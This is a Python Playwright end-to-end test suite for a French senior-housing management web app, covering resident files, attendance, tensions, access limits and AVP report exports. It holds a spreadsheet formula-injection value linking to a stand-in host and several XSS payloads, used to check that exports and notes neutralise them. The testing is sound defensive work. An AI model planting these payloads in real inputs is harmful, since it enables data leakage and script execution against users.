"""The animator's, the provider's and the family's journeys, driven in a real browser.

Each journey clicks, types and picks like a user on the real server, then reads
the outcome back (on screen, in a download, or in the database file), and
asserts one thing that must not happen. The server and its database are shared
by the whole session: every journey names what it creates with a random suffix.
"""

from __future__ import annotations

import csv
import io
import re
import secrets
import time
from collections.abc import Callable

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from playwright.sync_api import expect

from habitat import demo, store
from habitat.documents.render import filename_part
from habitat.services.access import served_resident_ids
from habitat.store.entities import (
    Account,
    Activity,
    Attendance,
    Dwelling,
    Habitat,
    LiaisonNote,
    PlanNeed,
    Resident,
    SupportPlan,
    Tension,
    TensionStatus,
)
from habitat.store.gdpr import FORMULA_PREFIXES

from .conftest import demo_usernames, sign_in

TODAY = demo.DEFAULT_END


# --- Driving Streamlit -----------------------------------------------------------------


def unique(prefix: str) -> str:
    return f"{prefix}-{secrets.token_hex(3)}"


def key(page, name: str):
    """The container of a keyed widget (Streamlit turns `.` and `:` of keys into `-`)."""
    return page.locator(".st-key-" + re.sub(r"[^\w-]", "-", name))


def settle(page) -> None:
    """Wait for the rerun under way to finish (call after seeing what it shows)."""
    page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]').wait_for(
        state="attached"
    )


def see(page, text: str) -> None:
    """Wait for a text the rerun shows (a confirmation, a message), then for the rerun's end."""
    page.get_by_text(text).first.wait_for()
    settle(page)


def open_page(page, path: str, heading: str) -> None:
    """Open a page from the sidebar menu (a new URL would start a new, signed-out session)."""
    page.locator(f'[data-testid="stSidebarNavLink"][href$="/{path}"]').click()
    page.get_by_role("heading", name=heading, exact=True).wait_for()
    settle(page)


def _open(page, name: str) -> None:
    # The arrow button opens the list (a click in the box may only focus it); the
    # list closes when the page scrolls, so the box is scrolled into view first.
    # An expander still opening moves the page too: then the list is opened again.
    box = key(page, name)
    for attempt in range(3):
        box.scroll_into_view_if_needed()
        box.locator('button[aria-haspopup="listbox"]').click()
        try:
            page.get_by_role("option").first.wait_for(timeout=3_000)
            return
        except PlaywrightTimeout:
            if attempt == 2:
                raise


def _close(page) -> None:
    listbox = page.get_by_role("listbox")
    try:
        listbox.wait_for(state="hidden", timeout=1_000)
    except PlaywrightTimeout:  # a multiselect stays open for more picks
        page.keyboard.press("Escape")
        listbox.wait_for(state="hidden")


def choose(page, name: str, option: str) -> None:
    """Pick an option of a keyed select box (or add one to a multiselect)."""
    _open(page, name)
    page.get_by_role("option", name=option, exact=True).click()
    _close(page)


def options(page, name: str) -> list[str]:
    """The options a keyed select box offers (opened, read, closed).

    A rerun that ends while the list is open closes it: then it is opened again.
    """
    for attempt in range(3):
        _open(page, name)
        try:
            page.get_by_role("option").filter(has_not_text="Select all").first.wait_for(
                timeout=5_000
            )
            break
        except PlaywrightTimeout:
            if attempt == 2:
                raise
            page.keyboard.press("Escape")
            settle(page)
    shown = page.get_by_role("option").all_inner_texts()
    page.keyboard.press("Escape")
    _close(page)
    return [text.strip() for text in shown if text.strip() != "Select all"]


def type_date(page, name: str, day: str) -> None:
    """Type a date (`DD/MM/YYYY`) into a keyed date input, segment by segment."""
    key(page, name).locator('[data-type="day"]').click()
    page.keyboard.type(day.replace("/", ""))


def page_text(page) -> str:
    """All text of the page, tables' cells included (they are drawn on a canvas)."""
    return page.evaluate("document.body.textContent")


def eventually(check: Callable[[], object], timeout: float = 15) -> object:
    """Poll the database until `check` returns something truthy (the write is a rerun away)."""
    deadline = time.monotonic() + timeout
    while True:
        found = check()
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


def one(server, model, where: str, params: list):
    with store.connect(server.db) as db:
        return store.find(db, model, where, params, include_archived=True)


# --- 1. Adding a resident with a support plan ------------------------------------------


def test_animator_adds_a_resident_with_a_support_plan(server, page):
    """Must not happen: the resident saved without its plan, or saved twice."""
    first, last = "Aline", unique("Essai")
    # The demo's eight dwellings are lived in: the habitat declares one more first
    # (as the animator would in Paramètres de l'habitat).
    dwelling = unique("Logement")
    with store.connect(server.db) as db:
        store.create(db, "test", Dwelling, {"habitat_id": 1, "name": dwelling})
    sign_in(page, server, "animator")
    open_page(page, "residents", "Habitants")

    page.get_by_text("Ajouter un habitant").click()
    key(page, "resident.new.first_name").locator("input").fill(first)
    key(page, "resident.new.last_name").locator("input").fill(last)
    key(page, "resident.new.birth_year").locator("input").fill("1948")
    key(page, "resident.new.gir").locator("input").fill("4")
    choose(page, "resident.new.dwelling", dwelling)
    key(page, "resident.new.emergency_contact").locator("input").fill("Paul Essai, 06 12 34 56 78")
    # A hurried double click on the save button.
    page.get_by_role("button", name="Ajouter l'habitant").dblclick()
    see(page, "Habitant ajouté.")
    # The new file opens (after a double click, it may need picking in the list).
    choose(page, "residents.selected", f"{first} {last}")
    page.get_by_role("heading", name=f"{first} {last}").wait_for()
    settle(page)
    (resident,) = one(server, Resident, "last_name = ?", [last])

    page.get_by_role("tab", name="Projet d'accompagnement").click()
    see(page, "Pas encore de projet d'accompagnement.")
    key(page, f"support_plan.{resident.id}.preferences").locator("textarea").fill(
        "Aime jardiner ; préfère le calme le matin."
    )
    page.get_by_role("button", name="Enregistrer le projet").click()
    see(page, "Projet d'accompagnement enregistré.")

    key(page, "residents.plan_action").get_by_role("radio", name="Besoin", exact=True).click()
    page.get_by_role("button", name="Ajouter le besoin").wait_for()
    settle(page)
    choose(page, f"need.{resident.id}.domain", "repas")
    key(page, f"need.{resident.id}.description").locator("textarea").fill(
        "Aide pour les courses, une fois par semaine."
    )
    page.get_by_role("button", name="Ajouter le besoin").click()
    see(page, "Besoin ajouté.")

    # The new resident is in the list and their file shows the plan and its need.
    expect(page.get_by_text("Aime jardiner ; préfère le calme le matin.")).to_be_visible()
    text = page_text(page)
    assert f"{first} {last}" in text
    assert "Aide pour les courses, une fois par semaine." in text
    # Must not happen: a duplicate, or the resident without the plan.
    assert len(one(server, Resident, "last_name = ?", [last])) == 1
    plans = one(server, SupportPlan, "resident_id = ?", [resident.id])
    assert len(plans) == 1
    needs = one(server, PlanNeed, "plan_id = ?", [plans[0].id])
    assert [(n.domain.value, n.description) for n in needs] == [
        ("meals", "Aide pour les courses, une fois par semaine.")
    ]


# --- 2. Taking attendance ------------------------------------------------------------


def test_animator_takes_attendance_twice_without_duplicates(server, page):
    """Must not happen: two attendance rows for one resident after saving twice."""
    title = unique("Atelier essai")
    sign_in(page, server, "animator")
    open_page(page, "collective", "Vie collective")

    page.get_by_text("Nouvelle activité").click()
    key(page, "activity.new.title").locator("input").fill(title)
    page.get_by_role("button", name="Ajouter l'activité").click()
    see(page, "Activité ajoutée au calendrier.")
    (activity,) = one(server, Activity, "title = ?", [title])

    page.get_by_role("tab", name="Présences").click()
    choose(page, "collective.attendance.activity", f"30/06/2026 14h00 · {title} (à relever)")
    form = f"attendance.{activity.id}"
    key(page, f"{form}:all").get_by_role("button").wait_for()
    settle(page)
    classes = page.locator(f'[class*="st-key-attendance-{activity.id}-"]').evaluate_all(
        "elements => elements.map(e => e.className)"
    )
    ids = [
        int(m.group(1))
        for c in classes
        if (m := re.search(rf"st-key-attendance-{activity.id}-(\d+)\b", c))
    ]
    first, absent = ids[0], ids[-1]

    def saved() -> dict[int, str]:
        rows = one(server, Attendance, "activity_id = ?", [activity.id])
        return {row.resident_id: row.status.value for row in rows}

    # First save: one resident came.
    key(page, f"{form}.{first}").get_by_role("radio", name="présent").click()
    page.get_by_role("button", name="Enregistrer les présences").click()
    see(page, f"Présences enregistrées : {title}.")
    assert eventually(lambda: saved() == {first: "present"})

    # Second save: everyone present in one tap, then one absent corrected.
    page.get_by_role("button", name="Tous présents").click()
    expect(key(page, f"{form}.{absent}").get_by_role("radio", name="présent")).to_have_attribute(
        "aria-checked", "true"
    )
    key(page, f"{form}.{absent}").get_by_role("radio", name="absent").click()
    page.get_by_role("button", name="Enregistrer les présences").click()
    assert eventually(lambda: saved().get(absent) == "absent")
    settle(page)

    rows = one(server, Attendance, "activity_id = ?", [activity.id])
    by_resident = {row.resident_id: row.status.value for row in rows}
    # Must not happen: a resident recorded twice for the same activity.
    assert len(rows) == len(by_resident) == len(ids)
    assert by_resident[first] == "present"
    assert by_resident[absent] == "absent"


# --- 3. Logging a tension and closing it -----------------------------------------------


def test_animator_logs_a_tension_and_closes_it_with_a_date(server, page):
    """Must not happen: a tension closed without its resolution date."""
    description = unique("Dispute au sujet du salon commun")
    sign_in(page, server, "animator")
    open_page(page, "tensions", "Tensions")

    page.get_by_text("Signaler une tension").click()
    choose(page, "tension.new.kind", "espaces communs")
    choose(page, "tension.new.severity", "moyenne")
    resident = options(page, "tension.new.resident_ids")[0]
    choose(page, "tension.new.resident_ids", resident)
    key(page, "tension.new.description").locator("textarea").fill(description)
    page.get_by_role("button", name="Enregistrer la tension").click()
    see(page, "Tension enregistrée.")
    (tension,) = one(server, Tension, "description = ?", [description])
    assert tension.status is TensionStatus.OPEN

    label = f"n° {tension.id} · 30/06/2026 · espaces communs · {description}"
    choose(page, "tensions.pick", label)
    form = f"tension.{tension.id}"
    key(page, f"{form}.status").wait_for()
    settle(page)
    key(page, f"{form}.actions").locator("textarea").fill("Médiation avec les deux habitants.")
    choose(page, f"{form}.status", "close")
    page.get_by_role("button", name="Enregistrer le suivi").click()
    # Closing without a date: refused, in French, under the date.
    message = "une tension close a une date de résolution, une tension ouverte n'en a pas"
    see(page, message)
    under_date = key(page, f"{form}.resolved_on").locator("xpath=following-sibling::*[1]")
    expect(under_date).to_contain_text(message)
    assert one(server, Tension, "id = ?", [tension.id])[0].status is TensionStatus.OPEN

    type_date(page, f"{form}.resolved_on", "30/06/2026")
    page.get_by_role("button", name="Enregistrer le suivi").click()
    see(page, "Tension close.")
    (closed,) = one(server, Tension, "id = ?", [tension.id])
    assert closed.status is TensionStatus.CLOSED
    # Must not happen: a closed tension without its resolution date.
    assert closed.resolved_on == TODAY
    assert closed.actions == "Médiation avec les deux habitants."


# --- 4. A provider's note ------------------------------------------------------------


def test_provider_writes_a_note_about_a_resident_they_serve(server, page):
    """Must not happen: a resident the provider does not serve among the choices."""
    body = unique("Passage du matin : toilette faite, bonne humeur")
    username = demo_usernames(server)["provider"]
    with store.connect(server.db) as db:
        (account,) = store.find(db, Account, "username = ?", [username])
        served = served_resident_ids(db, account.provider_id)
        residents = store.find(db, Resident, include_archived=True)
    served_names = {r.full_name for r in residents if r.id in served}
    others = {r.full_name for r in residents if r.id not in served} - served_names
    assert served_names and others

    sign_in(page, server, "provider")
    open_page(page, "notebook", "Cahier de liaison")
    page.get_by_text("Écrire une note").click()
    choices = options(page, "notebook.new.resident_ids")
    filters = [name for name in options(page, "notebook.filter.resident") if name != "Tous"]
    # Must not happen: a resident the provider does not serve offered anywhere.
    assert choices and set(choices) <= served_names
    assert set(filters) <= served_names
    assert not any(name in page_text(page) for name in others)

    key(page, "notebook.new.body").locator("textarea").fill(body)
    choose(page, "notebook.new.resident_ids", choices[0])
    page.get_by_role("button", name="Enregistrer la note").click()
    see(page, "Note enregistrée.")
    (note,) = one(server, LiaisonNote, "body = ?", [body])
    assert note.author_account_id == account.id
    assert note.author == account.display_name
    assert [r.full_name for r in residents if r.id in note.resident_ids] == [choices[0]]


# --- 5. A family member ----------------------------------------------------------------


def test_family_sees_only_their_relative(server, page):
    """Must not happen: another resident's name on any page, or a forbidden page's content."""
    username = demo_usernames(server)["family"]
    with store.connect(server.db) as db:
        (account,) = store.find(db, Account, "username = ?", [username])
        residents = store.find(db, Resident, include_archived=True)
    relative = next(r for r in residents if r.id == account.resident_id)
    others = {r.full_name for r in residents if r.id != relative.id} - {relative.full_name}

    sign_in(page, server, "family")
    menu = page.locator('[data-testid="stSidebarNavLink"]').all_inner_texts()
    assert [m.split("\n")[-1].strip() for m in menu] == [
        "Habitants",
        "Cahier de liaison",
        "Explorer un projet",
        "Mon compte",
    ]
    seen = []
    # Habitants, the family's first page, shows once signed in.
    page.get_by_role("heading", name=relative.full_name).wait_for()
    for tab in ("Identité", "Projet d'accompagnement", "Vie collective"):
        page.get_by_role("tab", name=tab).click()
        expect(page.get_by_role("tab", name=tab)).to_have_attribute("aria-selected", "true")
        settle(page)
        seen.append(page_text(page))
    open_page(page, "notebook", "Cahier de liaison")
    page.get_by_text(f"Les notes adressées à la famille de {relative.full_name}").wait_for()
    seen.append(page_text(page))
    open_page(page, "account", "Mon compte")
    seen.append(page_text(page))
    assert relative.full_name in seen[0]
    # Must not happen: another resident's name on a page the family can open.
    leaks = {name for name in others for text in seen if name in text}
    assert not leaks

    # A forbidden page's address (a colleague's link, a bookmark): the session holds
    # (the cookie), and the page says in French that it is not open to this account:
    # never its content, never Streamlit's English "Page not found".
    for path, heading, marker in [
        ("tensions", "Tensions", "Tensions ouvertes"),
        ("admin", "Administration", "Comptes"),
    ]:
        page.goto(f"{server.url}/{path}")
        page.get_by_role("heading", name="Page non disponible").wait_for()
        page.get_by_role("button", name="Se déconnecter").wait_for()
        settle(page)
        text = page_text(page)
        assert page.get_by_role("heading", name=heading, exact=True).count() == 0
        assert marker not in text and "Page not found" not in text
        assert not any(name in text for name in others)


# --- 6. The AVP report -----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Ouvrir")'


@pytest.fixture
def formula_in_address(server):
    """The habitat's address starts like a spreadsheet formula (restored afterwards)."""
    with store.connect(server.db) as db:
        habitat = store.find(db, Habitat)[0]
        store.update(
            db, "animator:test", Habitat, habitat.id, habitat.version, {"address": FORMULA}
        )
    yield habitat
    with store.connect(server.db) as db:
        changed = store.get(db, Habitat, habitat.id)
        store.update(
            db, "animator:test", Habitat, habitat.id, changed.version, {"address": habitat.address}
        )


def _report_file(page, format_label: str):
    """Choose the report's format, prepare it, download it: the download's info."""
    _open(page, "time.report.format")
    page.get_by_role("option", name=format_label, exact=True).click()
    _close(page)
    settle(page)
    page.get_by_role("button", name="Préparer le rapport").click()
    button = page.get_by_role("button", name=re.compile(r"^Télécharger rapport-avp-"))
    button.wait_for(timeout=30_000)
    settle(page)
    with page.expect_download() as download:
        button.click()
    return download


def test_animator_downloads_the_avp_report_as_a_pdf(server, page):
    """The PDF the department receives: real PDF, French accents, the year's figures."""
    from pypdf import PdfReader

    sign_in(page, server, "animator")
    open_page(page, "time", "Temps et AVP")
    page.get_by_role("heading", name="Rapport d'activité 2026 pour le département").wait_for()
    settle(page)

    download = _report_file(page, "PDF (A4, à imprimer ou envoyer)")

    assert download.value.suggested_filename.endswith("-2026.pdf")
    raw = download.value.path().read_bytes()
    assert raw.startswith(b"%PDF-")
    text = " ".join(
        "\n".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(raw)).pages).split()
    )
    with store.connect(server.db) as db:
        habitat = store.find(db, Habitat)[0]
    assert "Rapport d’activité 2026" in text
    assert habitat.name in text
    assert "du 01/01/2026 au 31/12/2026" in text
    assert "Temps par fonction de soutien" in text and "Décisions réalisées" in text


def test_host_exports_the_avp_report_without_formulas(server, page, formula_in_address):
    """Must not happen: a cell of the CSV a spreadsheet would run as a formula."""
    habitat = formula_in_address
    sign_in(page, server, "host")
    open_page(page, "time", "Temps et AVP")
    page.get_by_role("heading", name="Rapport d'activité 2026 pour le département").wait_for()
    settle(page)

    name = f"rapport-avp-{filename_part(habitat.name)}-2026"
    csv_download = _report_file(page, "Tableau (CSV)")
    assert csv_download.value.suggested_filename == f"{name}.csv"
    raw = csv_download.value.path().read_bytes()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Rubrique", "Élément", "Valeur"]
    assert all(len(row) == 3 for row in rows)
    cells = {(section, item): value for section, item, value in rows[1:]}
    assert cells[("Habitat", "Nom")] == habitat.name
    assert cells[("Habitat", "Année")] == "2026"
    assert cells[("Habitat", "Adresse")] == "'" + FORMULA
    assert {section for section, _ in cells} >= {
        "Habitat",
        "AVP",
        "Temps par fonction de soutien (h)",
        "Activités collectives",
        "Tensions régulées",
        "Conseil des habitants",
    }
    # Must not happen: a cell starting with = + - @ (or a tab or carriage return).
    formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]
    assert not formulas

    html_download = _report_file(page, "Page imprimable (HTML, A4)")
    assert html_download.value.suggested_filename == f"{name}.html"
    printable = html_download.value.path().read_text(encoding="utf-8")
    assert printable.lstrip().lower().startswith("<!doctype html")
    assert habitat.name in printable
    assert "HYPERLINK(&quot;" in printable and 'HYPERLINK("' not in printable


# --- 7. A script typed in a note -------------------------------------------------------

XSS = [
    '<img src=x onerror="window.__xss=1">',
    "<script>window.__xss=1</script>",
    "<img src=y onerror=\"alert('xss')\">",
]


def test_a_script_typed_in_a_note_is_shown_as_text(server, page):
    """Must not happen: the typed script runs (a flag set, or a dialog opened)."""
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    marker = unique("Essai de sécurité")
    body = "\n".join([marker, *XSS])
    sign_in(page, server, "animator")
    open_page(page, "notebook", "Cahier de liaison")
    page.get_by_text("Écrire une note").click()
    key(page, "notebook.new.body").locator("textarea").fill(body)
    page.get_by_role("button", name="Enregistrer la note").click()
    see(page, "Note enregistrée.")

    # The note as shown in the list (the demo has notes written later today, above it).
    note = page.locator('[data-testid="stMarkdownContainer"]', has_text=marker).last
    for payload in XSS:
        expect(note).to_contain_text(payload)
    assert one(server, LiaisonNote, "body = ?", [body])
    # Must not happen: the payload run as HTML or script.
    assert page.evaluate("window.__xss") is None
    assert page.locator('img[src="x"], img[src="y"]').count() == 0
    assert dialogs == []


# --- 7. The dashboard's alerts lead where they are dealt with ---------------------------


def test_an_overdue_review_alert_opens_the_resident_file(server, page):
    """Must not happen: an alert that names nobody, or leads nowhere."""
    sign_in(page, server, "animator")
    page.get_by_role("heading", name="Tableau de bord").wait_for()
    settle(page)
    expect(page.get_by_text("en retard)").first).to_be_visible()
    row = (
        page.locator('[data-testid="stHorizontalBlock"]')
        .filter(has_text="projet d'accompagnement à revoir depuis")
        .first
    )
    text = row.inner_text()
    assert "En retard" in text
    name = text.split(" : ")[0].split("·")[-1].strip()
    row.get_by_role("button", name="Ouvrir la fiche").click()
    page.get_by_role("heading", name="Habitants", exact=True).wait_for()
    page.get_by_role("heading", name=name).wait_for()
    settle(page)
    assert page.get_by_text("Traceback").count() == 0
